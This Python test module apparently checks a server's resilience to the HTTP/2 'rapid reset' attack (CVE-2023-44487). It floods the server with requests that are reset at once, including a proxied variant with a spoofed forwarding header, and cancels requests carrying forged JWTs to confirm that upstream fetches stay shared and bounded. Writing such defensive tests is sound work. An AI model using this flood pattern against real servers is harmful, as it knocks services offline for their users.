"""Requests that are reset at once ("rapid reset"): each costs the program a request and the client
a frame. Then the same to functions that fetch from other services: each request would start a fetch
of its own if it were not shared and recorded. Fetches are counted, and another client's requests go
on."""

import base64
import json
import time

from lib.attack import HTTP2, MIB, Attack, Bound, Case
from lib.attacker import FORWARDED
from lib.frames import DATA, END_STREAM, frame, literal, post, request, reset
from lib.http2 import Client
from lib.world import TLS, Service, World, eventually, read, require, response
from lib.world import request as request1

CONNECTIONS = 16
# Requests that are sent in one piece: fewer than the streams of a connection at a time.
BURST = 50
# A trusted proxy's connection remembers 10,000 streams that were reset, for 5 s.
OF_A_PROXY = Bound(memory=40 * MIB)
HEALTH = ["platform", "pds", "email", "web_push", "podcast_syndication"]


def flood(attacker, fields=b""):
    head, body = post(fields=fields), read()

    def burst(wire, _):
        return b"".join(
            request(stream, head, ends=False)
            + frame(DATA, END_STREAM, stream, body)
            + reset(stream)
            for stream in wire.streams(BURST))

    attacker.flood(CONNECTIONS, lambda at: attacker.http2(at=at), burst, "resets", BURST)


def of_a_client(attacker):
    flood(attacker)


def behind_a_proxy(attacker):
    flood(attacker, literal(b"x-forwarded-for", FORWARDED))


def configuration(services):
    probes = [f'{name} = "{services.url("/" + name)}"' for name in HEALTH]
    return f"""
[sidecar]
listen = "127.0.0.1:0"
base_url = "https://cards.example"
{TLS.format("sidecar")}
[sidecar.session]
jwks_url = "{services.url("/jwks")}"
[sidecar.health]
{chr(10).join(probes)}
"""


def token(number):
    """A session by a key that nobody knows, so that the key set is fetched."""
    part = lambda value: base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=").decode()
    head = {"alg": "ES256", "kid": f"key-{number}", "typ": "JWT"}
    claims = {"sub": "3f2504e0-4f89-41d3-9a0c-0305e82c3301", "aud": "authenticated",
              "role": "authenticated", "exp": int(time.time()) + 600}
    return f"{part(head)}.{part(claims)}.{'A' * 86}"


def slow(path, _):
    time.sleep(0.3)
    return b'{"keys":[]}' if path == "/jwks" else b"{}"


def take_back(world, requests, begin):
    """Begins requests and takes each back, over as many connections as it is let."""
    sent = 0
    while sent < requests:
        attacker = Client(world.secure("sidecar"))
        while sent < requests and not attacker.gone:
            attacker.cancel(begin(attacker, sent))
            sent += 1
            while attacker.step(0):
                pass
        attacker.socket.close()


def another(world, path, fields=b""):
    """Another client's request, over HTTP/1."""
    connection = world.secure("sidecar", "http/1.1")
    bytes_ = request1(b"GET", path, client="192.0.2.2")
    connection.sendall(bytes_.replace(b"\r\n\r\n", b"\r\n" + fields + b"\r\n"))
    status, _, body = response(connection)
    connection.close()
    return status, body


def fetches():
    services = Service(slow)
    with World(configuration(services)) as world:
        sessions = "/functions/age-verification-session"
        threads = world.threads()
        take_back(world, 60, lambda attacker, number: attacker.begin(
            "GET", sessions, client="192.0.2.1",
            fields=[("authorization", f"Bearer {token(number)}")]))
        bearer = b"Authorization: Bearer " + token(1000).encode() + b"\r\n"
        status, body = another(world, sessions.encode(), bearer)
        require(status in (401, 503), f"a session by an unknown key is {status}: {body!r}")
        require(services.count("/jwks") <= 2, f"{services.count('/jwks')} fetches of the key set")

        take_back(world, 60, lambda attacker, _: attacker.begin(
            "GET", "/functions/health-check", client="192.0.2.1"))
        status, body = another(world, b"/functions/health-check")
        require(status == 200, f"another client's health check is {status}: {body!r}")
        fetched = sum(services.count(f"/{name}") for name in HEALTH)
        require(fetched <= 2 * len(HEALTH), f"{fetched} fetches of {len(HEALTH)} services")

        take_back(world, 570, lambda attacker, _: attacker.begin(
            "GET", "/functions/health-check", client="192.0.2.3"))
        more = world.threads() - threads
        require(more <= 128, f"{more} threads more after 570 requests that were taken back")
        require(another(world, b"/functions/health-check")[0] == 200, "another client's, again")
        require(another(world, b"/robots.txt")[0] == 200, "and its other requests")
        eventually("no request is left", lambda: world.metric("portcullis_requests_in_flight") == 0)
    services.shutdown()


ATTACK = Attack(
    title="rapid reset",
    published="CVE-2023-44487",
    cases=(
        Case("of a client", HTTP2, of_a_client, {"resets": 5_000}),
        Case("behind a proxy", HTTP2, behind_a_proxy, {"resets": 5_000}, is_proxied=True,
             bound=OF_A_PROXY),
    ),
    checks=(fetches,),
    also="two fetches of each service",
)
